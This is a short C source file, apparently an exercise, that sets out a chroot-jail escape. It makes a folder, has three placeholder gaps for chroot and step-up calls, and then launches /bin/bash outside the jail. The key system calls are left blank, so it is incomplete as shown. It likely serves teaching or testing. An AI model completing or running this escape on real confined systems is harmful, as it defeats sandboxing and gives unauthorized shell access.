/* Walks out of a chroot jail. Three gaps are yours to fill: GAP_1, GAP_2 and GAP_3. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

/* Ends the program if a system call failed, and says which one and why. */
static void must(int result, const char *what)
{
    if (result == -1) {
        perror(what);
        _exit(1);
    }
}

int main(void)
{
    mkdir("foo", 0755); /* It may be there already. */

    must(GAP_1, "first chroot");
    for (int i = 0; i < 64; i++)
        must(GAP_2, "one folder up");
    must(GAP_3, "last chroot");

    execl("/bin/bash", "bash", (char *) NULL);
    perror("/bin/bash");
    return 1;
}
